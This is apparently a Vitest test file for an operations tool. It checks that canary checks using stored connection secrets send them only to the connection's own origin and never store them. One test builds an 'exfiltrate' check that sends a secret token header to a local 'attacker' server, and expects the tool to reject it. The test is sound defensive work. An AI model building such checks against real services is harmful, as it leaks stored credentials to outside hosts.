import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { startTestServer, type JsonReply, type TestServer } from '../harness';
import { startHttpServer, type HttpTarget } from '../fixtures/local-targets';
import { runCanaryNow } from '../fixtures/run-canary';

const PASSWORD = 'vf-password-8d1f3a';
const TOKEN = 'vf-token-61c2e9b7';

const secretRef = (name: string, key: string) => ({ valueFrom: { secretKeyRef: { name, key } } });

/**
 * canary-checker's valueFrom, read from stored connections (ADR 0074): the values reach the check's own origin only,
 * whoever writes the canary and whenever the connection is created or moved.
 */
describe('valueFrom in canaries', () => {
  let server: TestServer;
  let admin: string;
  let editor: string;
  let web: HttpTarget;
  let attacker: HttpTarget;
  const previousRole = process.env.OPSDECK_ROLE;

  async function createConnection(name: string, url: string): Promise<string> {
    const created = await server.call('POST', '/api/canary/connections', admin, {
      name,
      type: 'http',
      url,
      username: 'monitor',
      password: PASSWORD,
      properties: { region: 'eu-west-1' },
      secret_properties: { API_TOKEN: TOKEN },
    });
    expect(created.status, created.text).toBe(201);
    return String(created.json.id);
  }

  async function saveCanary(cookie: string, name: string, spec: Record<string, unknown>): Promise<JsonReply> {
    return server.call('POST', '/api/canary/canaries', cookie, { name, spec: { schedule: '@every 5m', ...spec } });
  }

  const runCanary = (canaryId: string) => runCanaryNow(server, canaryId);

  beforeAll(async () => {
    process.env.OPSDECK_ROLE = 'api';
    server = await startTestServer();
    admin = await server.cookieFor('admin');
    editor = await server.cookieFor('editor');
    web = await startHttpServer();
    attacker = await startHttpServer();
  });
  afterAll(async () => {
    process.env.OPSDECK_ROLE = previousRole;
    await web.close();
    await attacker.close();
    await server.close();
  });

  it("sends a connection's secret and plain properties to that connection's origin, and scrubs them from what the run stores", async () => {
    await createConnection('echo-auth', web.url);
    const saved = await saveCanary(editor, 'vf-echo', {
      http: [
        {
          name: 'echo with stored credentials',
          url: `${web.url}/echo`,
          method: 'POST',
          username: secretRef('echo-auth', 'username'),
          password: secretRef('echo-auth', 'password'),
          headers: [{ name: 'X-Token', ...secretRef('echo-auth', 'API_TOKEN') }],
          templateBody: true,
          env: [{ name: 'region', valueFrom: { configMapKeyRef: { name: 'echo-auth', key: 'region' } } }],
          body: '{"region":"{{.region}}"}',
          display: { expr: 'content' },
        },
      ],
    });
    expect(saved.status, saved.text).toBe(201);
    // The stored spec keeps the reference, never a value.
    expect(JSON.stringify(saved.json)).not.toContain(TOKEN);
    const before = web.requests.length;
    const run = await runCanary(String(saved.json.id));
    expect(run.status, run.message).toBe(true);
    const sent = web.requests.slice(before).find((request) => request.url === '/echo');
    expect(sent?.headers['x-token']).toBe(TOKEN);
    expect(sent?.headers.authorization).toBe(`Basic ${Buffer.from(`monitor:${PASSWORD}`).toString('base64')}`);
    expect(sent?.body).toBe('{"region":"eu-west-1"}');
    // The echo put every value in the displayed message; none of the secrets is stored.
    const stored = JSON.stringify(run);
    expect(stored).toContain('eu-west-1');
    expect(stored).not.toContain(TOKEN);
    expect(stored).not.toContain(PASSWORD);
  });

  it("refuses, on every write path, a check that would carry a connection's value to another origin, and stores nothing", async () => {
    await createConnection('guarded', web.url);
    const spec = { http: [{ name: 'exfiltrate', url: `${attacker.url}/collect`, headers: [{ name: 'X-Token', ...secretRef('guarded', 'API_TOKEN') }] }] };
    const viaRoute = await saveCanary(editor, 'vf-steal', spec);
    expect(viaRoute.status, viaRoute.text).toBe(400);
    expect(viaRoute.json).toMatchObject({ code: 'OD_VALUE_FROM_ORIGIN', details: 'http[0].headers[0].valueFrom' });
    expect(String(viaRoute.json.message)).toContain("'guarded'");
    const viaDataApi = await server.call('POST', '/api/db/canaries', editor, { name: 'vf-steal', spec });
    expect(viaDataApi.status, viaDataApi.text).toBe(400);
    expect(viaDataApi.json.code).toBe('OD_VALUE_FROM_ORIGIN');
    const document = { apiVersion: 'canaries.flanksource.com/v1', kind: 'Canary', metadata: { name: 'vf-steal', namespace: 'default' }, spec };
    const viaApply = await server.call('POST', '/api/apply', admin, { files: [{ path: 'steal.yaml', content: stringify(document) }] });
    expect(viaApply.status, viaApply.text).toBe(400);
    expect(JSON.stringify(viaApply.json)).toContain('OD_VALUE_FROM_ORIGIN');
    const stored = await server.pool.query(`select 1 from canaries where name = 'vf-steal' and deleted_at is null`);
    expect(stored.rowCount).toBe(0);
    expect(attacker.requests).toEqual([]);
  });

  it('fails the check by name, and sends nothing, when the connection a saved canary names turns up on another origin', async () => {
    // Saved before any connection of that name exists, as a Canary may be applied before its Kubernetes secret.
    const saved = await saveCanary(editor, 'vf-later', { http: [{ name: 'later', url: `${attacker.url}/collect`, password: secretRef('created-later', 'password') }] });
    expect(saved.status, saved.text).toBe(201);
    const missing = await runCanary(String(saved.json.id));
    expect(missing.status).toBe(false);
    expect(missing.error).toContain("password.valueFrom names the connection 'default/created-later'");
    await createConnection('created-later', web.url);
    const moved = await runCanary(String(saved.json.id));
    expect(moved.status).toBe(false);
    expect(moved.error).toContain("password.valueFrom: the values of connection 'created-later' go only to its origin");
    expect(attacker.requests).toEqual([]);
  });

  it('names a key the connection does not have', async () => {
    const saved = await saveCanary(editor, 'vf-key', { http: [{ name: 'key', url: `${web.url}/ok`, headers: [{ name: 'X-Api-Key', ...secretRef('echo-auth', 'NOT_THERE') }] }] });
    expect(saved.status, saved.text).toBe(201);
    const run = await runCanary(String(saved.json.id));
    expect(run.status).toBe(false);
    expect(run.error).toBe("headers[0].valueFrom: the connection 'echo-auth' has no secret property 'NOT_THERE'");
  });
});
